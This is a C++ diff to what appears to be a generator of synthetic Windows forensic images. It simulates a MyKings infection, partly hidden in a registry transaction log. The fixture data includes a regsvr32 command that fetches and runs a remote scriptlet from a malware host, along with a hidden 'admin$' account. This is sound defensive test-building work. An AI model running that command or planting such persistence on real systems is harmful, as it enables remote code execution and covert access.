@@ -37,9 +37,9 @@ RegKeySpec key(std::string name, std::vector<RegValueSpec> values, std::vector<R
 RegValueSpec sz(std::string name, const std::string& v) { return {std::move(name), 1, reg_sz(v)}; }
 RegValueSpec dw(std::string name, uint32_t v) { return {std::move(name), 4, reg_dword(v)}; }
 
-RegKeySpec software(S s) {
+RegKeySpec software(S s, bool worm_run_key = true) {
   std::vector<RegValueSpec> run = {sz("VMware User Process", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr")};
-  if (s == S::MyKings) run.push_back(sz("start", "regsvr32 /u /s /i:http://js.mykings.top:280/v.sct scrobj.dll"));
+  if (s == S::MyKings && worm_run_key) run.push_back(sz("start", "regsvr32 /u /s /i:http://js.mykings.top:280/v.sct scrobj.dll"));
   const bool patched = s == S::Clean;
   auto cv = key("CurrentVersion", {sz("ProductName", "Windows Server 2008 R2 Enterprise"), sz("CurrentVersion", "6.1"),
                                    sz("CurrentBuild", "7601"), sz("CSDVersion", "Service Pack 1")},
@@ -130,7 +130,14 @@ std::vector<std::string> write_windows_tree(const std::filesystem::path& root, W
     if (plant) planted.push_back(rel);
   };
   const bool bad = s != S::Clean;
-  put("C/Windows/System32/config/SOFTWARE", write_hive(software(s)), bad);  // MS17-010 missing
+  if (s == S::MyKings) {
+    // Copied while Windows was writing: the Run key is only in the transaction log beside the hive.
+    const std::string before = write_hive(software(s, false)), after = write_hive(software(s));
+    put("C/Windows/System32/config/SOFTWARE", make_dirty(before, 12), true);
+    put("C/Windows/System32/config/SOFTWARE.LOG1", write_transaction_log(before, after, 12), false);
+  } else {
+    put("C/Windows/System32/config/SOFTWARE", write_hive(software(s)), bad);  // MS17-010 missing
+  }
   put("C/Windows/System32/config/SYSTEM", write_hive(system(s)), bad);
   std::vector<SamAccountSpec> accounts = {{"Administrator", 500, false, true}, {"Guest", 501, true, false}};
   if (s == S::MyKings) accounts.push_back({"admin$", 1003, false, true});
